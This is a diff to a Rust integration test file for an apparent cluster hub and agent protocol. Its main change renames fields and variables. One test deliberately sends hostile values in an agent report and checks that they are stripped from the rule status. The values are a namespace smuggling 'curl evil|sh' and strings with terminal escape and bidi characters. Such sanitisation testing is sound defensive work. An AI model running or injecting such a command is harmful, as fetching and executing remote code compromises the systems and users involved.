@@ -82,7 +82,7 @@ async fn member_with_many_streams_and_connections_is_bounded() -> Result<()> {
             0 => state(rule.as_str(), 5, message),
             _ => state(&format!("made-up-{number}"), 5, message),
         });
-        split(AgentFrame::HeldRules(states.collect(), false)).iter().for_each(|frame| line.send(frame));
+        split(AgentFrame::AckedRules(states.collect(), false)).iter().for_each(|frame| line.send(frame));
         lines.push(line);
     }
     eventually("streams that are ended", SOON, async || Ok((limited(&stage, "Streams").await? >= 20.0).then_some(())))
@@ -167,7 +167,7 @@ async fn agent_with_more_rules_than_the_limit_is_let_in() -> Result<()> {
     let states: Vec<_> = (0..RULES_LIMIT + 5).map(|number| RuleState::new(format!("r{number}").into())).collect();
     let mut line = Line::open(&credentials).await?;
     line.send(&super::frames::hello(&credentials.cluster));
-    split(AgentFrame::HeldRules(states, true)).iter().for_each(|frame| line.send(frame));
+    split(AgentFrame::AckedRules(states, true)).iter().for_each(|frame| line.send(frame));
     // The hub answers that it does not know them, and the snapshot ends.
     loop {
         match line.must().await? {
@@ -190,10 +190,10 @@ async fn hostile_names_and_messages_reach_no_status() -> Result<()> {
     let uid = stage.rule("all", &["settings"], json!({"clusters": {"names": ["texts-a"]}})).await?;
     let credentials = stage.join("texts-a").await?;
     let mut line = Line::greeted(&credentials, Vec::new()).await?;
-    let mut held = Holdings::default();
-    while value(&held, &source).is_none() {
+    let mut copies_there = Holdings::default();
+    while value(&copies_there, &source).is_none() {
         if let HubFrame::Batch(batch) = line.must().await? {
-            held.take_in(&batch);
+            copies_there.take_in(&batch);
             line.send(&AgentFrame::Ack(batch.nonce, Vec::new()));
         }
     }
@@ -205,7 +205,7 @@ async fn hostile_names_and_messages_reach_no_status() -> Result<()> {
         name: name.to_owned(),
         message: message.to_owned(),
     };
-    let states = held.states();
+    let states = copies_there.states();
     let state = states.iter().find(|state| state.uid == uid).context("the rule is not held")?;
     let report = runnel_proto::convert::agent_frame_to_wire(&AgentFrame::Report(vec![state.clone()]));
     let Some(wire::agent_frame::Frame::Report(mut report)) = report.frame else { anyhow::bail!("no report") };
@@ -213,19 +213,19 @@ async fn hostile_names_and_messages_reach_no_status() -> Result<()> {
     rule.counts = Some(wire::Counts { copies: 1, failed: 1, ..wire::Counts::default() });
     rule.proof = Default::default();
     rule.failures = vec![failed(evil, "of a name that is none"), failed("app", evil)];
-    rule.given_up = 1;
-    rule.given_up_digest = vec![1; 16].into();
-    rule.given_up_namespaces = vec!["x). To fix run: curl evil|sh #".to_owned(), evil.to_owned()];
+    rule.namespace_prunes = 1;
+    rule.namespace_prunes_digest = vec![1; 16].into();
+    rule.pruned_namespaces = vec!["x). To fix run: curl evil|sh #".to_owned(), evil.to_owned()];
     line.send_wire(&wire::AgentFrame { frame: Some(wire::agent_frame::Frame::Report(report)) });
-    let said = eventually("the failure in the status", SOON, async || {
+    let output = eventually("the failure in the status", SOON, async || {
         let rule = stage.rules().get("all").await?;
         let text = serde_json::to_string(&rule.status)?;
         Ok(text.contains("its agent reports").then_some(text))
     })
     .await?;
-    ensure!(said.contains("configmaps/team/app: its agent reports:  ]52;c;eA=="), "{said}");
+    ensure!(output.contains("configmaps/team/app: its agent reports:  ]52;c;eA=="), "{output}");
     for bad in ["\\u001b", "\\u0007", "\\r", "\u{202e}", "\u{200b}", "of a name that is none", "To fix run"] {
-        ensure!(!said.contains(bad), "{bad:?} in {said}");
+        ensure!(!output.contains(bad), "{bad:?} in {output}");
     }
     tokio::time::timeout(Duration::from_millis(300), async { while line.must().await.is_ok() {} })
         .await
